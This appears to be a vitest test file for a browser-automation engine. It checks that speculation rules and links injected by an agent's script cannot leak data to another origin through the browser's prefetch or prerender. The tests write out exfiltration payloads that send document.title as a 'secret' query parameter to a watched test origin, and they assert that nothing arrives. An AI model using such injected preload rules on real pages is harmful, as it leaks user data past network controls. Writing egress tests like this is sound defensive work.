// A speculation rule the agent's script adds, on real Chromium: the browser, not the page, would send its prefetch or
// prerender of another origin's URL, out of every hold's reach; the fallback browser does not preload, so none leaves,
// and the tab still goes where it is sent.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { evaluate } from '../../shared/engine/ops/eval.js';
import { navigate } from '../../shared/engine/ops/navigate.js';
import { ctx, useEngineSuite } from '../support/engine-suite.js';
import { pageEval } from '../support/page-probes.js';
import { startWatchedSite, type WatchedSite } from '../support/watched-site.js';

const suite = useEngineSuite();
let watched: WatchedSite;
beforeAll(async () => {
  watched = await startWatchedSite();
});
afterAll(() => watched?.close());

// Where the browser preloads, the request reaches the watched site within a few hundred ms of the rule (Chromium 150).
const PRELOAD_WAIT_MS = 2_000;

/** A script that adds a speculation rule of `kind`, `entry` (a JavaScript object literal). */
const rule = (kind: string, entry: string): string =>
  `document.head.append(Object.assign(document.createElement('script'), { type: 'speculationrules', text: JSON.stringify({ ${kind}: [${entry}] }) })); 1`;
/** A rule's entry for one URL (a JavaScript expression). */
const listed = (url: string): string => `{ source: 'list', urls: [${url}] }`;

describe('a speculation rule the script adds sends nothing to another origin', () => {
  it.each(['prefetch', 'prerender'])('%s', async (kind) => {
    const { page } = await suite.browser.open(suite.server.url('egress-page.html'));
    watched.requests.length = 0;
    await evaluate(
      page,
      { expression: rule(kind, listed(`'${watched.origin}/${kind}?secret=' + document.title`)) },
      ctx,
    );
    await new Promise((resolve) => setTimeout(resolve, PRELOAD_WAIT_MS));
    await watched.settled();
    expect(watched.requests).toEqual([]);

    // The page's own rule for its own origin changes nothing either: the navigation it would have sped up still goes.
    const next = suite.server.url('mcp-hello.html');
    await pageEval(page, rule(kind, listed(JSON.stringify(next))));
    await navigate(page, { url: next }, ctx);
    expect(await pageEval(page, 'location.pathname')).toBe('/mcp-hello.html');
  });

  it("the page's own rule for every link, and a link the script adds", async () => {
    const { page } = await suite.browser.open(suite.server.url('egress-page.html'));
    watched.requests.length = 0;
    const everyLink = `{ source: 'document', where: { href_matches: '*://*:*/*' }, eagerness: 'immediate' }`;
    await pageEval(page, rule('prefetch', everyLink));
    await evaluate(
      page,
      {
        expression: `document.body.append(Object.assign(document.createElement('a'), { href: '${watched.origin}/link?secret=' + document.title })); 1`,
      },
      ctx,
    );
    await new Promise((resolve) => setTimeout(resolve, PRELOAD_WAIT_MS));
    await watched.settled();
    expect(watched.requests).toEqual([]);
  });
});
